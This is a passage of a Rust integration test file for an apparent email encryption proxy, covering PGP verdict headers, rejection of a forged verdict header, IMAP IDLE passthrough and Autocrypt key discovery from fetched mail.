            .find_map(|l| l.strip_prefix("X-Sealpost-Verdict: ").map(str::to_string))
            .unwrap_or_else(|| panic!("no verdict in {m}"))
    };
    assert!(text[0].contains("INLINE-SECRET-31"), "{}", text[0]);
    assert!(!text[0].contains("BEGIN PGP MESSAGE"), "{}", text[0]);
    assert!(
        verdict(&text[0]).contains("encryption=decrypted"),
        "{}",
        text[0]
    );
    assert!(
        verdict(&text[1]).starts_with("signature=valid"),
        "{}",
        text[1]
    );
    assert!(text[1].contains("CLEARSIGNED-TEXT-32"), "{}", text[1]);
    assert!(text[2].contains("UNSIGNED-SECRET-33"), "{}", text[2]);
    let v = verdict(&text[2]);
    assert!(
        v.contains("signature=none") && v.contains("encryption=decrypted"),
        "{}",
        text[2]
    );
    let forged = &text[3];
    assert!(forged.contains("Trust me"), "{forged}");
    assert_eq!(forged.matches("X-Sealpost-Verdict:").count(), 1, "{forged}");
    assert!(!verdict(forged).contains("signature=valid"), "{forged}");
    assert!(!verdict(forged).contains("decrypted"), "{forged}");

    // IDLE passes through: a message delivered at the provider while the client idles is
    // announced, and DONE ends the idle with the upstream's OK.
    let idle = imaplib(
        proxy_port(&server),
        &format!(
            "tag = IMAP._new_tag()\n\
             IMAP.send(tag + b' IDLE\\r\\n')\n\
             out(IMAP.readline())\n\
             D = imaplib.IMAP4('127.0.0.1', {dovecot})\n\
             D.login('bob@example.org', '{PASSWORD}')\n\
             D.append('INBOX', None, None, b'Subject: while idle\\r\\n\\r\\nhello\\r\\n')\n\
             D.logout()\n\
             out(IMAP.readline())\n\
             IMAP.send(b'DONE\\r\\n')\n\
             line = IMAP.readline()\n\
             while not line.startswith(tag):\n    line = IMAP.readline()\n\
             out(line)\n",
            dovecot = dovecot.port
        ),
    );
    let idle: Vec<String> = decoded(&idle)
        .iter()
        .map(|l| String::from_utf8_lossy(l).into_owned())
        .collect();
    assert!(idle[0].starts_with("+"), "{idle:?}");
    assert!(idle[1].contains("5 EXISTS"), "{idle:?}");
    assert!(idle[2].contains(" OK"), "{idle:?}");
}

/// A correspondent's `Autocrypt:` header in mail fetched through the proxy puts his key in
/// the keyring (trust `autocrypt`), as mail arriving through the SMTP side would: a user on
/// the proxy receives everything through the provider. The header in Bob's own sent copy,
/// which his mail client wrote with a key of its own, offers nothing. With `[discovery]
/// autocrypt = false`, nothing is kept.
#[test]
fn autocrypt_keys_in_fetched_mail_reach_the_keyring_but_not_from_the_user_s_own_copies() {
    let dave = Gpg::new();
    dave.generate("Dave <dave@example.com>", "ed25519", "sign", "never");
    let fpr = dave.fingerprint("dave@example.com");
    dave.ok(&["--quick-add-key", &fpr, "cv25519", "encr", "never"]);
    let dave_fpr = fpr.to_ascii_uppercase();
    let mua = Gpg::new();
    mua.generate("Bob <bob@example.org>", "ed25519", "default", "never");
    let mail = |from: &str, addr: &str, keys: &Gpg, subject: &str| {
        crlf(&format!(
            // No Date: the keys were made a moment ago, and a key is taken as valid at
            // the message's date.
            "From: {from}\nTo: bob@example.org\nSubject: {subject}\n\
             Message-ID: <{subject}@example.com>\n\
             Autocrypt: addr={addr}; prefer-encrypt=mutual; keydata={}\n\nhello\n",
            super::discovery::keydata(keys, addr)
        ))
    };
    let dovecot = start_dovecot(&[
        (
            "dave",
            mail(
                "Dave <dave@example.com>",
                "dave@example.com",
                &dave,
                "from-dave",
            ),
        ),
        (
            "sent",
            mail(
                "Bob <bob@example.org>",
                "bob@example.org",
                &mua,
                "sent-copy",
            ),
        ),
    ]);
    let config = |discovery: &str| {
        format!(
            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
             [imap]\nlisten = \"127.0.0.1:0\"\nupstream = \"127.0.0.1:{}\"\nupstream_tls = \"none\"\n\n\
             [discovery]\nwkd = false\n{discovery}",
            dovecot.port
        )
    };
    let fetch_both = "for uid in (b'1', b'2'):\n\
                      \x20   typ, data = IMAP.uid('FETCH', uid, '(BODY.PEEK[])')\n\
                      \x20   out(data[0][1])\n";

    let off = Sealpost::new();
    off.generate("bob@example.org", &[]);
    let server = off.serve(&config("autocrypt = false\n"), &[]);
    assert_eq!(decoded(&imaplib(proxy_port(&server), fetch_both)).len(), 2);
    drop(server);
    let listed = off.ok(&["keys", "list"]);
    assert!(!listed.contains("dave@example.com"), "{listed}");

    let s = Sealpost::new();
    s.generate("bob@example.org", &[]);
    let bob_before = s.ok(&["keys", "list"]);
    let server = s.serve(&config(""), &[]);
    let got = decoded(&imaplib(proxy_port(&server), fetch_both));
    assert!(String::from_utf8_lossy(&got[0]).contains("from-dave"));
    let listed = s.ok(&["keys", "list"]);
    assert!(listed.contains("dave@example.com"), "{listed}");
    let shown = s.ok(&["keys", "show", &dave_fpr]);
    assert!(
        shown.contains("autocrypt"),
        "the trust it was stored with: {shown}"
    );
    // Bob's own sent copy changed nothing: no second key for him, nothing to review.
    let mua_fpr = mua.fingerprint("bob@example.org").to_ascii_uppercase();
    assert!(!listed.contains(&mua_fpr), "{listed}");
    assert_eq!(
        listed.matches("bob@example.org").count(),
        bob_before.matches("bob@example.org").count(),
        "{listed}"
    );
    let review = s.ok(&["keys", "review", "list"]);
    assert!(!review.contains("bob@example.org"), "{review}");
}
